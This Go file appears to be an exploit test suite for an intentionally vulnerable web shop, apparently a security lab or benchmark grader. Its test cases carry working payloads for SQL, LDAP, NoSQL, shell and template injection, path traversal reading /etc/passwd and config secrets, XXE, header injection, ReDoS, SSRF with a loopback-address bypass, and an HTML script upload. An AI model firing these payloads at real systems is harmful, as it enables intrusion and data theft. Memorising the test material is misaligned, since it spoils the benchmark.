package main

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"time"
)

// injectionAttacks make code out of data.
func injectionAttacks() map[string]func(*target) {
	return map[string]func(*target){
		"LK-45": func(x *target) {
			search := func(name string) answer { return x.get(nil, "/v2/items/search?name="+url.QueryEscape(name)) }
			x.want(search("horn'").status == 500 && strings.Contains(search("horn'").text, "SQL logic error"), "the error of the database")
			x.want(search("horn''").status == 200, "a doubled quote is none")
			yes, no := search("horn%' AND 1=1 --"), search("horn%' AND 1=2 --")
			x.want(yes.at("items", 0, "name") == "Signal horn" && no.at("items", 0) == "", "true and false differ", yes, no)
			leak := search("x' UNION SELECT 1, username, password_hash, 1, 1, 1, 1 FROM users --")
			x.want(strings.Contains(leak.text, "$2a$"), "the hashes of all", leak)
		},
		"LK-46": func(x *target) {
			search := func(id string) string {
				return x.get(nil, "/v2/items/by-seller?seller_id="+url.QueryEscape(id)).at("items", 0, "id")
			}
			x.want(search("3 AND 1=1") == "1" && search("3 AND 1=2") == "" && search("'") == "", "true and false differ")
		},
		"LK-47": func(x *target) {
			ask := func(rows int) time.Duration {
				text := fmt.Sprintf("x' OR (WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM r LIMIT %d) SELECT count(*) FROM r) > 0 --", rows)
				began := time.Now()
				a := x.get(nil, "/v2/items/1/availability?branch="+url.QueryEscape(text))
				x.want(a.at("available") == "true", "the answer says nothing", a)
				return time.Since(began)
			}
			short, long := ask(1), time.Duration(0)
			for rows := 20000; rows < 50000000 && (long < 10*short || long < 50*time.Millisecond); rows *= 3 {
				long = ask(rows)
			}
			x.want(long > 10*short && long > 50*time.Millisecond, fmt.Sprint(short, long))
		},
		"LK-91": func(x *target) {
			ask := func(name string) answer { return x.get(nil, "/v2/directory?name="+url.QueryEscape(name)) }
			one, all := ask("gisela"), ask("*")
			x.want(one.at("people", 1) == "" && all.at("people", 2, "name") == "mechthild", "a star lists all", one, all)
			x.want(ask("gisela)(public=TRUE").at("people", 0, "name") == "gisela" && ask("gisela)(public=FALSE").at("people", 0) == "", "true and false differ")
			x.want(ask("gisela)(").at("people", 0) == "" && ask("none").at("people", 0) == "", "what is broken fits nothing")
		},
		"LK-63": func(x *target) {
			a := x.send(x.alice, "POST", "/v2/items/1/label", `{"text":"x; echo $((41*271))"}`)
			x.want(strings.HasSuffix(a.at("label"), "\n11111\n"), "the shell computes", a)
		},
		"LK-64": func(x *target) {
			a := x.send(x.alice, "POST", "/v2/newsletter/preview", `{"template":"{{print 41 \"x\"}}"}`)
			x.want(a.at("preview") == "41x", "the template runs", a)
		},
		"LK-65": func(x *target) {
			x.want(strings.Contains(x.get(x.alice, "/v2/invoices?file=../config.env").text, "DB_PASSWORD="), "the configuration")
			x.want(strings.Contains(x.get(x.alice, "/v2/invoices?file=../../../../../../../../../../etc/passwd").text, "root:x:0:"), "the users of the machine")
			x.want(x.get(x.alice, "/v2/invoices?file=../../../../../../../../../../etc/none").status == 404, "a file that is not there")
		},
		"LK-66": func(x *target) {
			all := x.send(x.bob, "POST", "/v2/vouchers/search", `{"code":{"$ne":null}}`)
			none := x.send(x.bob, "POST", "/v2/vouchers/search", `{"code":{"$eq":"V-0"}}`)
			x.want(all.at("vouchers", 2, "owner") == "gisela" && none.at("vouchers", 0) == "", "the vouchers of all", all, none)
		},
		"LK-67": func(x *target) {
			load := func(declared string) answer {
				return x.send(x.alice, "POST", "/v2/items/import", `<!DOCTYPE items [<!ENTITY x `+declared+`>]><items><item><name>a&x;b</name></item></items>`, "Content-Type", "application/xml")
			}
			x.want(load(`"4711"`).at("imported", 0) == "a4711b", "an entity is expanded")
			x.want(strings.Contains(load(`SYSTEM "file:///etc/passwd"`).text, "root:x:0:"), "the users of the machine")
		},
		"LK-75": func(x *target) {
			a := x.get(nil, "/language?set=en%0d%0aX-Injected:%20yes")
			x.want(a.header.Get("X-Injected") == "yes", "our header is there", a)
		},
		"LK-84": func(x *target) {
			ask := func(letters int) time.Duration {
				began := time.Now()
				a := x.send(nil, "POST", "/v2/newsletter", `{"email":"`+strings.Repeat("a", letters)+`!@example.com"}`)
				x.want(a.status == 400, "refused", a)
				return time.Since(began)
			}
			short, long := ask(10), ask(20)
			x.want(long > 5*short, fmt.Sprint(short, long))
			x.want(x.send(nil, "POST", "/v2/newsletter", `{"email":"a.b-c@example.com"}`).status == 201, "an honest address is taken")
		},
	}
}

// listener is an attacker's own server.
func (x *target) listener(body string) (address string, visits *atomic.Int32) {
	visits = new(atomic.Int32)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		visits.Add(1)
		_, _ = w.Write([]byte(body))
	}))
	x.Cleanup(server.Close)
	return server.URL, visits
}

// fetchAttacks make the shop visit addresses.
func fetchAttacks() map[string]func(*target) {
	return map[string]func(*target){
		"LK-68": func(x *target) {
			marker := random()
			address, _ := x.listener(marker)
			a := x.send(x.alice, "POST", "/v2/items/1/picture", `{"picture_url":"`+address+`"}`)
			x.want(a.at("data") == base64.StdEncoding.EncodeToString([]byte(marker)), "the answer of the listener", a)
		},
		"LK-69": func(x *target) {
			marker := random()
			address, visits := x.listener(marker)
			a := x.send(x.alice, "POST", "/v2/webhooks", `{"url":"`+address+`"}`)
			x.want(visits.Load() == 1 && !strings.Contains(a.text, marker), "it was visited", a)
		},
		"LK-70": func(x *target) {
			address, visits := x.listener("<title>inside</title>")
			ask := func(address string) answer { return x.get(x.alice, "/v2/preview?url="+url.QueryEscape(address)) }
			x.want(ask(address).status == 400 && visits.Load() == 0, "the plain address is refused")
			other := strings.Replace(address, "127.0.0.1", "[::ffff:7f00:1]", 1)
			x.want(ask(other).at("title") == "inside" && visits.Load() == 1, "another spelling is visited")
		},
		"LK-87": func(x *target) {
			name := random()
			address, _ := x.listener(`{"items":[{"name":"` + name + `","price":-5}]}`)
			a := x.send(x.alice, "POST", "/v2/suppliers/sync", `{"feed_url":"`+address+`"}`)
			x.want(x.get(nil, "/v2/items?q="+name).at("items", 0, "price") == "-5", "it is for sale", a)
		},
		"LK-71": func(x *target) {
			body := "--b\r\nContent-Disposition: form-data; name=\"picture\"; filename=\"evil.html\"\r\nContent-Type: image/png\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n"
			a := x.send(x.alice, "POST", "/v2/items/1/picture/file", body, "Content-Type", "multipart/form-data; boundary=b")
			shown := x.get(nil, a.at("url"))
			x.want(strings.HasPrefix(shown.header.Get("Content-Type"), "text/html") && strings.Contains(shown.text, "<script>"), "a browser runs it", a, shown)
		},
	}
}
